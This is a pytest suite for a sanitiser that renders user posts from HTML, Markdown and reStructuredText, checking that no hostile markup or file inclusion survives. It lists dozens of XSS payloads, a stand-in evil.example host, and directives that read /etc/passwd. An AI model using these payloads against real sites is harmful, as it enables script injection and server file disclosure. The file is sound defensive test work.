"""One policy for all formats, held against texts that want to get past it."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from posts.rendering.pipeline import FORMATS, render
from posts.rendering.policy import ATTRIBUTES, TAGS, sanitise

# One text a line in each, so that they can be read as their authors would type them.
IN_HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src='x' / onerror = 'alert(1)'>
<img src="x:x" onerror="alert(1)">
<img src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>
<img srcset='x 1x' src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href=' javascript:alert(1)'>x</a>
<a href='java	script:alert(1)'>x</a>
<a href='jav&#x09;ascript:alert(1)'>x</a>
<a href='jav&#x0A;ascript:alert(1)'>x</a>
<a href='&#106;&#97;vascript:alert(1)'>x</a>
<a href='&#1;javascript:alert(1)'>x</a>
<a href='JaVaScRiPt:alert(1)'>x</a>
<a href='data:text/html,<script>alert(1)</script>'>x</a>
<a href='vbscript:msgbox(1)'>x</a>
<a href='file:///etc/passwd'>x</a>
<a href='#x' target=_blank ping=//evil.example style=position:fixed>x</a>
<p style='position:fixed;inset:0'>x</p>
<p onclick=alert(1) onmouseover=alert(1)>x</p>
<style>*{display:none}</style>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>
<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>
<iframe src=//evil.example></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data=//evil.example></object><embed src=//evil.example>
<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>
<base href=//evil.example>
<meta http-equiv=refresh content='0;url=//evil.example'>
<link rel=stylesheet href=//evil.example/x.css>
<video src=//evil.example onerror=alert(1)><source onerror=alert(1)></video>
<details open ontoggle=alert(1)><summary>x</summary></details>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<textarea><script>alert(1)</script></textarea>
<template><script>alert(1)</script></template>
<div class='masthead skip colophon' id='content'>x</div>
<a id=__proto__ name=body>x</a><img name=getElementById>
<p role=button tabindex=1 contenteditable draggable=true autofocus>x</p>
<q cite='javascript:alert(1)'>x</q><blockquote cite='javascript:alert(1)'>x</blockquote>
<div tabindex=0 onfocus=alert(1)>x</div>
<code class='language-"><script>alert(1)</script>'>x</code>
<pre><code class="language-python"><script>alert(1)</script>x = '&lt;/pre&gt;&lt;script&gt;'</code></pre>
"""
IN_MARKDOWN = r"""
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)\n\n[x]
![x](data:text/html;base64,PHNjcmlwdD4=)
<javascript:alert(1)>
```"><script>alert(1)</script>\nx\n```
```python onload=alert(1)\nx\n```
![" onerror="alert(1)](x)
[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x
"""
IN_RESTRUCTUREDTEXT = r"""
.. raw:: html\n\n   <script>alert(1)</script>
.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`
.. include:: /etc/passwd
.. include:: /etc/hostname\n   :literal:
.. include:: <isonum.txt>
.. literalinclude:: /etc/passwd
.. csv-table::\n   :file: /etc/passwd
.. csv-table::\n   :url: file:///etc/passwd
.. raw:: html\n   :file: /etc/passwd
.. raw:: html\n   :url: file:///etc/passwd
.. image:: javascript:alert(1)
.. image:: /etc/passwd\n   :loading: embed
.. image:: file:///etc/passwd\n   :loading: embed
.. image:: x.svg\n   :alt: " onerror="alert(1)\n   :class: masthead\n   :target: javascript:alert(1)
.. figure:: data:text/html,x\n   :figclass: masthead
`x <javascript:alert(1)>`_
.. _x: javascript:alert(1)\n\nx_
.. meta::\n   :http-equiv=refresh: 0;url=//evil.example
.. container:: masthead\n\n   x
.. code-block:: "><script>alert(1)</script>\n\n   x
.. class:: masthead\n\nx
.. parsed-literal::\n\n   `x <javascript:alert(1)>`_
.. math:: <script>alert(1)</script>
.. math::\n\n   \\href{javascript:alert(1)}{x}
.. title:: <script>alert(1)</script>
.. header:: <script>alert(1)</script>
"""
HOSTILE = [
    line.replace("\\n", "\n")
    for text in (IN_HTML, IN_MARKDOWN, IN_RESTRUCTUREDTEXT)
    for line in text.strip("\n").split("\n")
]
URLS = {"href", "src", "cite"}
# What any of the files named above would show.
ROOT_LINE = re.compile(r"root:[^:]*:0:0:")


class Checker(HTMLParser):
    """Holds finished HTML against what the policy says, by a parser of its own."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            assert not name.startswith("on")
            if name in URLS:
                assert urlsplit(value).scheme in ("", "http", "https", "mailto"), value
                assert not re.match(r"[\x00-\x20]*[a-z\s]*script:", value, re.IGNORECASE), value
            if name == "class":
                assert not {"masthead", "skip", "colophon"} & set(value.split())
            if name == "id":
                assert value.startswith("s-")

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_gets_through_in_any_format(source, format):
    rendered = render(source, format)
    checker = Checker(convert_charrefs=True)
    checker.feed(rendered.html)
    checker.close()
    assert not ROOT_LINE.search(rendered.html)
    assert sanitise(rendered.html) == rendered.html


def test_files_are_neither_read_nor_embedded(tmp_path):
    secret = tmp_path / "secret.svg"
    secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>the-secret</text></svg>')
    for source in (
        f".. include:: {secret}",
        f".. csv-table::\n   :file: {secret}",
        f".. raw:: html\n   :file: {secret}",
        f".. image:: {secret}\n   :loading: embed",
        f".. figure:: {secret.as_uri()}\n   :loading: embed",
        f".. code-block:: xml\n   :file: {secret}",
    ):
        assert "the-secret" not in render(source, "restructuredtext").html


def test_a_configuration_file_is_not_read(tmp_path, monkeypatch):
    (tmp_path / "docutils.conf").write_text("[general]\nfile_insertion_enabled: true\nraw_enabled: true\n")
    (tmp_path / "secret").write_text("the-secret")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DOCUTILSCONFIG", str(tmp_path / "docutils.conf"))
    assert "the-secret" not in render(".. include:: secret", "restructuredtext").html


def test_the_policy_is_the_same_whatever_the_format():
    hostile = '<p id="content" class="masthead note" style="x" onclick="x">x</p><script>y</script>'
    expected = '<p id="s-content" class="note">x</p>'
    assert render(hostile, "html").html == expected
    assert render(hostile, "markdown").html == expected
    assert render(f"|x|\n\n.. |x| replace:: {hostile}", "restructuredtext").html.startswith("<p>&lt;p id=")


def test_what_is_dropped_with_its_content_and_what_leaves_its_text_behind():
    assert sanitise("<script>a</script><style>b</style><blink>c</blink>") == "c"


@pytest.mark.parametrize(
    "html",
    [
        '<p lang="de" dir="ltr">x</p>',
        '<a href="/x" title="y">x</a>',
        '<a href="mailto:a@example.org">x</a>',
        '<a href="//example.org/x">x</a>',
        '<ol start="3" reversed=""><li value="2">x</li></ol>',
        '<table><caption>x</caption><thead><tr><th scope="col" colspan="2">x</th></tr></thead></table>',
        '<p><ruby>漢<rt>kan</rt></ruby> <kbd>Ctrl</kbd> <abbr title="y">x</abbr></p>',
        '<time datetime="2026-01-01">x</time>',
        '<p><math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math></p>',
        '<details open=""><summary>x</summary><p>y</p></details>',
    ],
)
def test_what_writers_need_passes_unchanged(html):
    assert sanitise(html) == html
